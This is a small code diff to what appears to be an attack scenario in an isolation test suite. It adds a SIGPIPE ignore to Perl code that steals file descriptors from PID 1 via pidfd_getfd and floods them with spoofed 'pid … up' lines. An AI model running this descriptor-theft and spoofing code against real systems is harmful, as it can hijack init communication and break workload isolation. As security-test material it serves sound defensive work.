@@ -7,7 +7,8 @@ export const attack: Attack = {
   needs: ['shared_kernel', 'perl'],
   async by({ agent, boot, driver, stranger }) {
     const machine = await boot();
-    await machine.perl(`
+    // Nobody reads what is too much, so that its writer would be ended by a signal.
+    await machine.perl(`$SIG{PIPE} = "IGNORE";
       my $init = sys("pidfd_open", 1, 0);
       for my $n (3 .. 20) { my $taken = sys("pidfd_getfd", $init, $n, 0); next if $taken < 0; open my $s, "+<&=", $taken or next; syswrite $s, "pid ${agent.pid}\\nup\\npid 1\\n" . "x" x 100000 . "\\n" }
       print "said\\n";`);
